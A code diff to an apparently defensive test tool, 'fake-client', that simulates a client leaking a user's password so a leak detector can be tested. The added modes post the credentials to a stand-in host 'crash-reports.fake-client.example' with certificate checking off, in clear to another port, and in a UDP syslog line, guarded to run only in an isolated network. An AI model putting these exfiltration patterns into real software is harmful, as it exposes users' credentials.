@@ -29,10 +29,9 @@ FILES = f"/remote.php/dav/files/{USER}/"
 
 def connect(verify, host=HOST, port=PORT):
     context = ssl.create_default_context(cafile=CA_FILE) if verify else ssl._create_unverified_context()
-    if verify:
-        context.check_hostname = False  # the simulated hosts are addresses; the chain is checked
     raw = socket.create_connection((host, port), timeout=10)
-    return context.wrap_socket(raw, server_hostname=None)
+    # Checked: the chain, and the name or address (as every browser checks them).
+    return context.wrap_socket(raw, server_hostname=host if verify else None)
 
 
 def exchange(sock, head, body=b""):
@@ -163,6 +162,28 @@ def leak():
                 sock.sendall(f"POST /v1/events HTTP/1.1\r\nHost: {name}\r\nContent-Length: {len(body)}\r\n\r\n".encode())
                 time.sleep(0.2)
                 exchange(sock, "", body)
+        except (OSError, ssl.SSLError) as error:
+            print(f"fake-client: {error}", file=sys.stderr)
+    elif MODE in ("own-name", "other-port", "udp-datagram"):
+        # Only inside the suite's network namespace (nothing but loopback there; the suite's name
+        # server answers every name): own-name looks up a name of its own and posts the password
+        # there over TLS, certificate unchecked; other-port sends it in clear to the scenario's
+        # host on a port of its own; udp-datagram sends it in a UDP datagram (a syslog line).
+        if open("/proc/self/net/dev").read().count(":") != 1:
+            print("fake-client: not in a network of its own; nothing sent", file=sys.stderr)
+            sys.exit(3)
+        body = json.dumps({"user": USER, "password": PASSWORD}).encode()
+        try:
+            if MODE == "own-name":
+                name = "crash-reports.fake-client.example"
+                with ssl._create_unverified_context().wrap_socket(socket.create_connection((name, 443), timeout=5), server_hostname=name) as sock:
+                    exchange(sock, f"POST /report HTTP/1.1\r\nHost: {name}\r\nContent-Length: {len(body)}\r\n\r\n", body)
+            elif MODE == "other-port":
+                with socket.create_connection((HOST, 8081), timeout=5) as sock:
+                    exchange(sock, f"POST /debug HTTP/1.1\r\nHost: {HOST}:8081\r\nContent-Length: {len(body)}\r\n\r\n", body)
+            else:
+                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+                    sock.sendto(b"<13>fake-client: login " + body, ("127.0.0.3", 514))
         except (OSError, ssl.SSLError) as error:
             print(f"fake-client: {error}", file=sys.stderr)
     elif MODE == "leak-no-login":
